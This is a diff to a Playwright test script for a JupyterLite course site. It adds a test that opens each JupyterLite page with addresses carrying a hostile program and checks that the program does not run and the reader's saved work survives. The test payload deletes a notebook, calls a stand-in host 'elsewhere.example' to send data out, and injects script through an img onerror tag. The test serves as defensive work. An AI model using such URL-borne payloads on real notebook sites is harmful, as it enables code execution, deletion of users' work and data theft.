@@ -15,6 +15,7 @@ import time
 import traceback
 from pathlib import Path
 from typing import Any
+from urllib.parse import quote
 
 from playwright.async_api import Browser, BrowserContext, Page, async_playwright
 
@@ -25,7 +26,8 @@ SCREEN = {"width": 1366, "height": 768}
 PHONE = {"width": 390, "height": 800}
 
 READY = "async () => { const p = jupyterapp.shell.currentWidget; await p.context.ready; await p.sessionContext.ready; }"
-SESSION = "(jupyterapp.shell.currentWidget.sessionContext ?? jupyterapp.shell.currentWidget.console.sessionContext)"
+SESSION = """((widget) => widget?.sessionContext ?? widget?.console?.sessionContext)(
+    window.jupyterapp?.shell?.currentWidget)"""
 STARTED = f"() => ['idle', 'busy'].includes({SESSION}?.session?.kernel?.status)"
 RUN = "() => jupyterapp.commands.execute('notebook:run-all-cells')"
 CELLS = """() => jupyterapp.shell.currentWidget.content.widgets.filter((cell) => cell.model.type === 'code')
@@ -43,9 +45,29 @@ CHANGE_CELL = """async ([id, source]) => { const { content, sessionContext } = j
     content.activeCell.model.sharedModel.setSource(source);
     await jupyterapp.commands.execute('notebook:run-cell'); return content.activeCell.outputArea.node.innerText; }"""
 
+KEEP_A_CHANGE = """async (words) => { const { context, content } = jupyterapp.shell.currentWidget;
+    content.widgets[0].model.sharedModel.setSource(words); await context.save(); }"""
+KEPT = """async (name) => { const { contents } = jupyterapp.serviceManager;
+    const [folder, notebook] = [await contents.get('', { content: true }), await contents.get(name, { content: true })];
+    return [folder.content.map((file) => file.name), notebook.content.cells[0].source]; }"""
+
 FIRST = "00_start_here.ipynb"
 RIGHT = "import math\nanswer = -math.cos(5)\n\ncheck.ex_00_1(answer)"
 LAB = "05_three_ways_to_remember.ipynb"
+
+LEFT = "left_by_a_link.txt"
+UNASKED = f"""import os
+from IPython.display import HTML, Javascript, display
+from js import fetch
+open({LEFT!r}, "w").write("ran")
+if os.path.exists({FIRST!r}):
+    os.remove({FIRST!r})
+fetch("https://elsewhere.example/?taken")
+display(HTML("<img src=x onerror='window.ranUnasked = 1'>"), Javascript("window.ranUnasked = 1"))"""
+"""What a link could do if the program in it ran: leave a file, delete work, send it away, take the page over."""
+ASKS = f"path={FIRST}&kernel=python&execute=1&fromURL={quote('https://elsewhere.example/a.ipynb', safe='')}"
+PAGES = ("lab", "notebooks", "tree", "repl", "consoles", "edit")
+"""The pages of JupyterLite, those included that the site does not have."""
 
 
 def said(outputs: list[dict[str, Any]]) -> list[str]:
@@ -84,7 +106,6 @@ class Visit:
         self.refused: set[str] = set()
         self.wrong: list[str] = []
         self.seconds: dict[str, int] = {}
-        self.link = ""
 
     async def context(self, **options: Any) -> BrowserContext:
         """A browser of its own, as of a new reader, to whom all other addresses are refused."""
@@ -148,8 +169,6 @@ class Visit:
         await page.screenshot(path=self.pictures / "slider.png")
         reply = await page.evaluate(CHANGE_CELL, ["ex-00-1", RIGHT])
         self.expect("passed" in reply, f"the right answer is told: {reply}")
-        site = json.dumps(self.address)
-        self.link = (await page.evaluate(RUN_CODE, f"print(play(f, 2.0, 5.0).link({site}))")).strip()
         await page.close()
         page = await self.open(context, FIRST)
         await until(page, STARTED)
@@ -185,23 +204,48 @@ class Visit:
         await until(page, moved, before)
         await page.screenshot(path=self.pictures / "lab.png")
 
-    async def open_the_link(self) -> None:
-        """Open a link with a function in it on a phone: the player plays by itself, and steps; then on a screen."""
+    async def open_hostile_links(self) -> None:
+        """Where a reader has saved work, open addresses that hold a program: none runs, and the work is still there."""
+        context, words = await self.context(), "# My own words"
+        page = await self.open(context, FIRST)
+        await page.evaluate(KEEP_A_CHANGE, words)
+        await page.close()
+        for name in PAGES:
+            page = await context.new_page()
+            address = f"{self.address}/lite/{name}/index.html?{ASKS}&code={quote(UNASKED)}"
+            answer = await page.goto(address)
+            if answer and answer.status == 404:
+                await page.close()
+                continue
+            await until(page, STARTED)
+            await page.wait_for_timeout(3000)  # so that a program from the address would be waiting in the kernel
+            await page.evaluate(RUN_CODE, "'what comes after it'")
+            self.expect(await page.evaluate("window.ranUnasked") is None, f"{name} runs the script in its address")
+            await page.close()
+        page = await self.open(context, LAB)
+        files, first = await page.evaluate(KEPT, FIRST)
+        self.expect(LEFT not in files, "the program in an address ran")
+        self.expect("".join(first) == words, f"after a link was opened, the reader's notebook begins: {first}")
+        await page.close()
+
+    async def use_a_phone(self) -> None:
+        """On a phone the player fits, plays by a finger, and steps."""
         page = await (await self.context(viewport=PHONE, has_touch=True)).new_page()
-        await page.goto(self.link)
+        await page.goto(f"{self.address}/lite/notebooks/index.html?path={FIRST}")
+        await until(page, STARTED)
+        await page.evaluate(RUN)
+        await page.evaluate(SHOW_CELL, "first-play")
+        player = page.locator(".adl-player").first
+        await player.locator('[data-action="play"]').first.tap()
         await until(page, "document.querySelector('.adl-player')?.dataset.playing")
         await until(page, "document.querySelector('.adl-player').dataset.step > 3")
         await page.screenshot(path=self.pictures / "phone.png")
-        box = await page.locator(".adl-player").first.bounding_box()
-        self.expect(
-            bool(box) and box["x"] >= 0 and box["x"] + box["width"] <= 391, f"on a phone the player is at {box}"
-        )
-        await page.locator('.adl-player [data-action="play"]').first.tap()
-        await self.plays(page, "the link", "5.5", "1.7163")
+        box = await player.bounding_box()
+        fits = box is not None and box["x"] >= 0 and box["x"] + box["width"] <= PHONE["width"] + 1
+        self.expect(fits, f"on a phone the player is at {box}")
+        await player.locator('[data-action="play"]').first.tap()
+        await self.plays(page, "on a phone", "5.5", "1.7163")
         await page.screenshot(path=self.pictures / "phone-end.png")
-        await page.set_viewport_size(SCREEN)
-        await page.wait_for_timeout(1000)
-        await page.screenshot(path=self.pictures / "link.png")
         await page.close()
 
     async def all(self) -> None:
@@ -210,7 +254,8 @@ class Visit:
 
         async def reader() -> None:
             await self.read_the_first()
-            await self.open_the_link()
+            await self.open_hostile_links()
+            await self.use_a_phone()
             if waiting:
                 await self.run_notebooks(waiting)
 
@@ -228,8 +273,7 @@ async def main(address: str, chromium: str, pictures: str) -> None:
         visit = Visit(address, browser, Path(pictures))
         await visit.all()
         await browser.close()
-    found = {"refused": sorted(visit.refused), "wrong": visit.wrong, "seconds": visit.seconds, "link": visit.link}
-    print(json.dumps(found))
+    print(json.dumps({"refused": sorted(visit.refused), "wrong": visit.wrong, "seconds": visit.seconds}))
 
 
 if __name__ == "__main__":
